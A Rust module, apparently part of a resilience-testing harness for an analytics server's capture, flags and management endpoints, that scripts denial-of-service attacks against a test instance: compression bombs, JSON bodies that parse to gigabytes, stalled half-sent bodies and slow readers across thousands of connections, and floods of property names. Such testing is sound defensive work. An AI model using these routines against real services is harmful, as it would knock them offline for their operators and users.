//! Attacks with only the public project key, or without any key.

use std::io::Write as _;
use std::time::Duration;

use anyhow::{Result, ensure};
use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::json;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::victim::Victim;
use crate::load::{get, post};
use crate::server_process::PROJECT_KEY;

/// Duration of attacks that only hold resources.
const HOLD: Duration = Duration::from_secs(25);
const BYTES_MAX: usize = 20 << 20;
const VISIBLE_MAX: Duration = Duration::from_secs(90);

/// No attack: the baseline.
pub async fn quiet(_: Victim) -> Result<String> {
    sleep(Duration::from_secs(10)).await;
    Ok(String::new())
}

/// One event a month, back to 1934, with 1,024 file descriptors.
pub async fn months(victim: Victim) -> Result<String> {
    const MONTHS: u64 = 1_100;
    const FILES_MAX: usize = 64;
    let (status, before) = victim.hogql(1, "select count() from events").await?;
    ensure!(status == 200, "counting answered {status}");
    let before = super::count(&before)?;
    let batch: Vec<_> = (0..MONTHS)
        .map(|back| {
            let (year, month) = (2_025 - back / 12, 12 - back % 12);
            json!({
                "event": "old", "distinct_id": "old",
                "timestamp": format!("{year:04}-{month:02}-15T12:00:00Z"),
            })
        })
        .collect();
    let body = json!({ "api_key": PROJECT_KEY, "batch": batch }).to_string();
    let (status, _) = victim.ask(0, &post("/batch/", "", body.as_bytes())).await?;
    ensure!(status == 200, "the batch was answered {status}");
    let stored = victim.events(1, before + MONTHS, VISIBLE_MAX).await?;
    ensure!(stored == before + MONTHS, "{stored} events of {}", before + MONTHS);
    // The memtable is flushed about a minute after its first event.
    sleep(Duration::from_secs(75)).await;
    let stored = victim.events(1, before + MONTHS, VISIBLE_MAX).await?;
    ensure!(stored == before + MONTHS, "{stored} events of {} in files", before + MONTHS);
    let files = victim.event_files()?;
    ensure!((1..=FILES_MAX).contains(&files), "{files} files of events");
    Ok(format!("{MONTHS} months in {files} files"))
}

/// Unknown tokens of almost 2 MB, compressed a thousandfold.
pub async fn tokens(victim: Victim) -> Result<String> {
    const REQUESTS: usize = 2_000;
    const TOKEN_BYTES: usize = (2 << 20) - 1_024;
    at_once(REQUESTS, 16, move |number| {
        let victim = victim.clone();
        async move {
            let token = "a".repeat(TOKEN_BYTES);
            let body = format!("{{\"token\":\"{number}{token}\",\"distinct_id\":\"x\"}}");
            let request = packed("/flags/?v=2", body.as_bytes())?;
            Ok(victim.ask(number, &request).await?.0)
        }
    })
    .await
}

/// `/flags` bodies of some kilobytes that would parse to gigabytes.
pub async fn flags(victim: Victim) -> Result<String> {
    const TEXT_BYTES: usize = (2 << 20) - 1_024;
    let objects = "{\"\":0},".repeat(TEXT_BYTES / 7);
    let body = |token: &str| {
        format!(
            "{{\"person_properties\":{{\"x\":[{objects}0]}},\"distinct_id\":\"x\",\"token\":\"{token}\"}}"
        )
    };
    let known = packed("/flags/?v=2", body(PROJECT_KEY).as_bytes())?;
    let unknown = packed("/flags/?v=2", body("phc_nobody").as_bytes())?;
    let requests = std::sync::Arc::new([known, unknown]);
    let sizes = format!("bodies of {} bytes; ", requests[0].len());
    let statuses = at_once(512, 64, move |number| {
        let (victim, requests) = (victim.clone(), requests.clone());
        async move { Ok(victim.ask(number, &requests[number % 2]).await?.0) }
    })
    .await?;
    Ok(sizes + &statuses)
}

/// Decompression bombs in zstd and brotli, sent to capture.
pub async fn inflating(victim: Victim) -> Result<String> {
    const EVENTS: usize = 20;
    const VALUE_BYTES: usize = BYTES_MAX / EVENTS - 1_024;
    let value = "x".repeat(VALUE_BYTES);
    let batch: Vec<_> = (0..EVENTS)
        .map(|_| json!({ "event": "large", "distinct_id": "d", "properties": { "value": value } }))
        .collect();
    let text = json!({ "api_key": PROJECT_KEY, "batch": batch }).to_string();
    let requests = std::sync::Arc::new([
        coded("br", brotli(text.as_bytes())?),
        coded("zstd", zstd::bulk::compress(text.as_bytes(), 3)?),
    ]);
    let sizes = format!("bodies of {} and {} bytes; ", requests[0].len(), requests[1].len());
    let statuses = at_once(64, 64, move |number| {
        let (victim, requests) = (victim.clone(), requests.clone());
        async move { Ok(victim.ask(number, &requests[number % 2]).await?.0) }
    })
    .await?;
    Ok(sizes + &statuses)
}

/// Capture bodies that stall half-way, on thousands of connections.
pub async fn half_sent(victim: Victim) -> Result<String> {
    let head = format!(
        "POST /batch/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n",
        1 << 20
    );
    stalled(victim, 3_900, head, 512 << 10).await
}

/// The same for the management API, with an invalid key.
pub async fn management(victim: Victim) -> Result<String> {
    let head = format!(
        "POST /api/projects/1/feature_flags/ HTTP/1.1\r\nHost: x\r\n\
         Authorization: Bearer phx_nobody\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n",
        1 << 20
    );
    stalled(victim, 3_000, head, (1 << 20) - 1).await
}

async fn stalled(victim: Victim, connections: usize, head: String, sent: usize) -> Result<String> {
    let mut held = JoinSet::new();
    let body: std::sync::Arc<[u8]> = vec![b' '; sent].into();
    for number in 0..connections {
        let (victim, head, body) = (victim.clone(), head.clone(), body.clone());
        held.spawn(async move {
            let Ok(mut stream) = victim.connect(number).await else { return false };
            let sent = async {
                stream.write_all(head.as_bytes()).await?;
                stream.write_all(&body).await
            };
            let whole = tokio::time::timeout(HOLD, sent).await.is_ok_and(|sent| sent.is_ok());
            sleep(HOLD).await;
            whole
        });
    }
    let whole = held.join_all().await.into_iter().filter(|whole| *whole).count();
    Ok(format!("{connections} connections, {whole} could send what they wanted to"))
}

/// Responses that the client does not read.
pub async fn slow_readers(victim: Victim) -> Result<String> {
    const CONNECTIONS: usize = 4_100;
    // Pipelined responses fill every buffer on the way.
    let requests = get("/api/schema/", "").repeat(8);
    let mut held = JoinSet::new();
    for number in 0..CONNECTIONS {
        let (victim, requests) = (victim.clone(), requests.clone());
        held.spawn(async move {
            let Ok(mut stream) = victim.connect(number).await else { return };
            // A rejection or a closed connection is expected.
            let _ = stream.write_all(&requests).await;
            sleep(HOLD * 2).await;
        });
    }
    held.join_all().await;
    Ok(format!("{CONNECTIONS} connections"))
}

/// Two million property names in a few requests.
pub async fn names(victim: Victim) -> Result<String> {
    const NAMES: usize = 2_000_000;
    const REQUESTS: usize = 20;
    const EVENTS: usize = 500;
    const EACH: usize = NAMES / REQUESTS / EVENTS;
    let sender = victim.clone();
    let statuses = at_once(REQUESTS, 4, move |number| {
        let victim = sender.clone();
        async move {
            let batch: Vec<_> = (0..EVENTS)
                .map(|event| {
                    let names = (0..EACH)
                        .map(|name| (format!("n{number}-{event}-{name}"), json!(1)))
                        .collect::<serde_json::Map<_, _>>();
                    json!({ "event": "named", "distinct_id": "x", "properties": names })
                })
                .collect();
            let body = json!({ "api_key": PROJECT_KEY, "batch": batch }).to_string();
            Ok(victim.ask(number, &packed("/batch/", body.as_bytes())?).await?.0)
        }
    })
    .await?;
    let stored = (REQUESTS * EVENTS) as u64;
    let started = std::time::Instant::now();
    let query = "select count() from events where event = 'named'";
    let seen = loop {
        let seen = match victim.hogql(1, query).await? {
            (200, answer) => super::count(&answer)?,
            _ => 0,
        };
        if seen >= stored || started.elapsed() > VISIBLE_MAX {
            break seen;
        }
        sleep(Duration::from_secs(1)).await;
    };
    ensure!(seen == stored, "{seen} of {stored} events are visible");
    let started = std::time::Instant::now();
    let (status, _) =
        victim.hogql(1, "select count() from events where properties.x = '1'").await?;
    Ok(format!("{statuses}; a query then: {status} in {:.2} s", started.elapsed().as_secs_f64()))
}

/// Sends numbered requests concurrently and counts the responses by status; a connection that
/// the server closed counts as 0.
async fn at_once<F>(
    requests: usize,
    width: usize,
    send: impl Fn(usize) -> F + Clone + Send + 'static,
) -> Result<String>
where
    F: Future<Output = Result<u16>> + Send,
{
    let mut senders = JoinSet::new();
    for first in 0..width {
        let send = send.clone();
        senders.spawn(async move {
            let mut statuses = Vec::new();
            for number in (first..requests).step_by(width) {
                statuses.push(send(number).await.unwrap_or(0));
            }
            statuses
        });
    }
    let mut counts = std::collections::BTreeMap::<u16, usize>::new();
    for status in senders.join_all().await.into_iter().flatten() {
        *counts.entry(status).or_default() += 1;
    }
    let counts: Vec<_> =
        counts.iter().map(|(status, count)| format!("{count} × {status}")).collect();
    Ok(counts.join(", "))
}

fn packed(path: &str, body: &[u8]) -> Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(body)?;
    Ok(post(path, "Content-Encoding: gzip\r\nConnection: close\r\n", &encoder.finish()?))
}

fn coded(encoding: &str, body: Vec<u8>) -> Vec<u8> {
    post("/batch/", &format!("Content-Encoding: {encoding}\r\nConnection: close\r\n"), &body)
}

fn brotli(body: &[u8]) -> Result<Vec<u8>> {
    let mut packed = Vec::new();
    let settings = ::brotli::enc::BrotliEncoderParams { quality: 5, ..Default::default() };
    ::brotli::BrotliCompress(&mut &*body, &mut packed, &settings)?;
    Ok(packed)
}
